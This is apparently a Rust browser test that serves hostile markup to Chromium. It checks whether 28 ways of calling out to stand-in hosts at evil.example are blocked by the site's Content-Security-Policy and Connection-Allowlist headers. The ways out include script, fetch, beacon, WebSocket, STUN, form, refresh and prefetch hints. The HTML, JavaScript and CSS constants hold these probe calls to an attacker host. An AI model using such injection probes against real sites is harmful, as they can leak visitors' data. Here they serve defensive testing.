//! What hostile markup on a page of ours could reach: 28 ways out, each under no policy, under the Content-Security-Policy
//! alone, under the Connection-Allowlist alone, and under both as a page of ours sends them. The table is kept here, so
//! that a browser that behaves otherwise is noticed.

use std::collections::BTreeSet;
use std::net::{TcpListener, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use rocket::figment::Figment;
use rocket::http::ContentType;
use rocket::response::Responder;
use rocket::{Request, Response, State, get, routes};

use crate::support::app::{TestApp, free_port};
use crate::support::chromium::Driver;
use crate::support::launch::launched;
use crate::support::park::Park;

/// Every way out, by the name of the host it tries.
const PROBES: [&str; 28] = [
    "script",
    "module",
    "import",
    "img",
    "picture",
    "css-url",
    "css-import",
    "font",
    "audio",
    "video",
    "iframe",
    "object",
    "embed",
    "fetch",
    "xhr",
    "beacon",
    "eventsource",
    "websocket",
    "webtransport",
    "ping",
    "form",
    "refresh",
    "preload",
    "prefetch",
    "preconnect",
    "dns-prefetch",
    "stun",
    "speculation",
];

/// Which reach somebody under the Content-Security-Policy alone: hints, names and navigations are beyond it.
const PAST_CSP: [&str; 4] = ["dns-prefetch", "preconnect", "refresh", "stun"];

/// The headers of one arm.
struct Arm {
    csp: Option<String>,
    allowlist: Option<String>,
}

struct Hostile {
    html: String,
    headers: Vec<(&'static str, String)>,
}

impl<'r> Responder<'r, 'static> for Hostile {
    fn respond_to(self, _: &'r Request<'_>) -> rocket::response::Result<'static> {
        let mut response = Response::build();
        response.header(ContentType::HTML);
        for (name, value) in self.headers {
            response.raw_header(name, value);
        }
        response.sized_body(self.html.len(), std::io::Cursor::new(self.html)).ok()
    }
}

const HTML: &str = r##"<!doctype html><meta charset="utf-8"><title>hostile</title>
<link rel="stylesheet" href="/probe.css">
<link rel="preload" as="script" href="https://preload.evil.example/a.js">
<link rel="prefetch" href="https://prefetch.evil.example/a.html">
<link rel="preconnect" href="https://preconnect.evil.example">
<link rel="dns-prefetch" href="https://dns-prefetch.evil.example">
<script src="https://script.evil.example/a.js"></script>
<script type="module" src="https://module.evil.example/a.js"></script>
<script type="speculationrules">{"prefetch":[{"urls":["https://speculation.evil.example/a.html"],"eagerness":"immediate"}]}</script>
<img src="https://img.evil.example/a.png" alt="">
<picture><source srcset="https://picture.evil.example/a.png 1x"><img alt=""></picture>
<p class="url">u</p><p class="font">f</p>
<audio preload="auto" src="https://audio.evil.example/a.mp3"></audio>
<video preload="auto" src="https://video.evil.example/a.mp4"></video>
<iframe src="https://iframe.evil.example/a.html"></iframe>
<object data="https://object.evil.example/a.html"></object>
<embed src="https://embed.evil.example/a.html" type="text/html">
<a id="ping" href="#here" ping="https://ping.evil.example/a">p</a>
<script src="/probe.js"></script>"##;

const SCRIPT: &str = r"
const at = (name, path) => `https://${name}.evil.example/${path}`;
const tries = [
  () => import(at('import', 'a.js')),
  () => fetch(at('fetch', 'a'), { mode: 'no-cors' }),
  () => { const x = new XMLHttpRequest(); x.open('GET', at('xhr', 'a')); x.send(); },
  () => navigator.sendBeacon(at('beacon', 'a'), 'x'),
  () => new EventSource(at('eventsource', 'a')),
  () => new WebSocket('wss://websocket.evil.example/a'),
  () => new WebTransport('https://webtransport.evil.example:WT/a').ready,
  () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.evil.example:STUN' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); },
  () => document.getElementById('ping').click(),
];
for (const attempt of tries) { try { Promise.resolve(attempt()).catch(() => {}); } catch { /* refused */ } }
document.title = 'tried';
";

const STYLE: &str = "@import 'https://css-import.evil.example/a.css';
@font-face { font-family: evil; src: url('https://font.evil.example/a.woff2'); }
.url { background: url('https://css-url.evil.example/a.png'); } .font { font-family: evil; }";

struct Ports {
    webtransport: u16,
    stun: u16,
}

fn hostile(arm: &Arm, html: &str) -> Hostile {
    let csp = arm.csp.clone().map(|value| ("Content-Security-Policy", value));
    let allowlist = arm.allowlist.clone().map(|value| ("Connection-Allowlist", value));
    Hostile { html: html.to_owned(), headers: csp.into_iter().chain(allowlist).collect() }
}

#[get("/arm/<n>")]
fn all(n: usize, arms: &State<Vec<Arm>>) -> Hostile {
    hostile(&arms[n], HTML)
}

#[get("/arm/<n>/form")]
fn form(n: usize, arms: &State<Vec<Arm>>) -> Hostile {
    hostile(
        &arms[n],
        "<!doctype html><form id=f method=post action=\"https://form.evil.example/a\"><button>x</button></form><script src=/send.js></script>",
    )
}

#[get("/arm/<n>/refresh")]
fn refresh(n: usize, arms: &State<Vec<Arm>>) -> Hostile {
    hostile(
        &arms[n],
        "<!doctype html><meta http-equiv=refresh content=\"0;url=https://refresh.evil.example/a.html\">x",
    )
}

#[get("/probe.js")]
fn script(ports: &State<Ports>) -> (ContentType, String) {
    let text = SCRIPT.replace("WT/", &format!("{}/", ports.webtransport));
    (ContentType::JavaScript, text.replace(":STUN", &format!(":{}", ports.stun)))
}

#[get("/send.js")]
fn send() -> (ContentType, &'static str) {
    (ContentType::JavaScript, "document.getElementById('f').submit()")
}

#[get("/probe.css")]
fn style() -> (ContentType, &'static str) {
    (ContentType::CSS, STYLE)
}

/// Counts what arrives at a socket that answers nothing.
fn counts_tcp() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, count) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let counted = count.clone();
    std::thread::spawn(move || {
        for _ in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, count)
}

fn counts_udp() -> (u16, Arc<AtomicUsize>) {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (port, count) = (socket.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let counted = count.clone();
    std::thread::spawn(move || {
        let mut buffer = [0; 2048];
        while socket.recv_from(&mut buffer).is_ok() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, count)
}

/// T-INJ-1, T-INJ-2, R-EN-4: with both policies none of the ways out leads anywhere, nor with the allowlist alone; with
/// the older policy alone only hints do; and without either nearly all do, or the test would show nothing.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_markup_reaches_nobody() {
    let Some(driver) = Driver::start() else { return };
    let (app, park) = (TestApp::new().await, Park::open().await);
    let page = app.visitor().get("/").await.is(200);
    let header = |name| Some(page.header(name).unwrap().to_owned());
    let (csp, allowlist) = (header("content-security-policy"), header("connection-allowlist"));
    let arms = vec![
        Arm { csp: None, allowlist: None },
        Arm { csp: csp.clone(), allowlist: None },
        Arm { csp: None, allowlist: allowlist.clone() },
        Arm { csp, allowlist },
    ];
    let ((preconnect, preconnected), (stun, stunned), (webtransport, transported)) =
        (counts_tcp(), counts_udp(), counts_udp());
    let port = free_port();
    let figment = Figment::from(rocket::Config {
        log_level: rocket::config::LogLevel::Off,
        ..rocket::Config::default()
    })
    .merge(("address", "127.0.0.1"))
    .merge(("port", port))
    .merge(("cli_colors", false))
    .merge(("shutdown.ctrlc", false));
    let server = rocket::custom(figment)
        .manage(arms)
        .manage(Ports { webtransport, stun })
        .mount("/", routes![all, form, refresh, script, send, style]);
    let shutdown = launched(server).await;
    let site = format!("http://127.0.0.1:{port}");
    let rules = format!(
        "MAP preconnect.evil.example 127.0.0.1:{preconnect}, MAP stun.evil.example 127.0.0.1, \
         MAP webtransport.evil.example 127.0.0.1, EXCLUDE dns-prefetch.evil.example, "
    );
    let mut table = vec![];
    for n in 0..4 {
        let (browser, log) = park.visitor(&driver, &site, &rules).await;
        park.hits().await;
        for count in [&preconnected, &stunned, &transported] {
            count.store(0, Ordering::SeqCst);
        }
        browser.open(&format!("/arm/{n}")).await;
        browser.until("document.title === 'tried'").await;
        tokio::time::sleep(Duration::from_secs(3)).await;
        browser.open(&format!("/arm/{n}/form")).await;
        tokio::time::sleep(Duration::from_secs(1)).await;
        browser.open(&format!("/arm/{n}/refresh")).await;
        tokio::time::sleep(Duration::from_secs(2)).await;
        let mut arrived: BTreeSet<String> = park
            .hits()
            .await
            .into_iter()
            .filter_map(|hit| hit.host.strip_suffix(".evil.example").map(str::to_owned))
            .collect();
        for (name, count) in
            [("preconnect", &preconnected), ("stun", &stunned), ("webtransport", &transported)]
        {
            if count.load(Ordering::SeqCst) > 0 {
                arrived.insert(name.to_owned());
            }
        }
        browser.client.clone().close().await.unwrap();
        tokio::time::sleep(Duration::from_millis(500)).await;
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        // A name that was asked for stands in an event of its own; the log's summary repeats the rules of the test.
        if text.contains("\"qname\":\"dns-prefetch.evil.example\"")
            || text.contains("\"host\":\"https://dns-prefetch.evil.example\"")
        {
            arrived.insert("dns-prefetch".to_owned());
        }
        table.push(arrived);
    }
    println!("{:<14} {:>6} {:>6} {:>10} {:>6}", "way out", "none", "CSP", "allowlist", "both");
    for probe in PROBES {
        let cell = |n: usize| if table[n].contains(probe) { "out" } else { "-" };
        println!("{probe:<14} {:>6} {:>6} {:>10} {:>6}", cell(0), cell(1), cell(2), cell(3));
    }
    let none: BTreeSet<&str> = table[0].iter().map(String::as_str).collect();
    let missing: Vec<_> = PROBES.iter().filter(|p| !none.contains(*p)).collect();
    assert!(
        missing.len() <= 2,
        "these show nothing, they do not arrive without a policy either: {missing:?}"
    );
    let past: BTreeSet<&str> = table[1].iter().map(String::as_str).collect();
    assert!(past.is_subset(&PAST_CSP.into_iter().collect()), "past the Content-Security-Policy: {past:?}");
    assert_eq!(table[2], BTreeSet::new(), "past the Connection-Allowlist");
    assert_eq!(table[3], BTreeSet::new(), "past both");
    shutdown.notify();
}
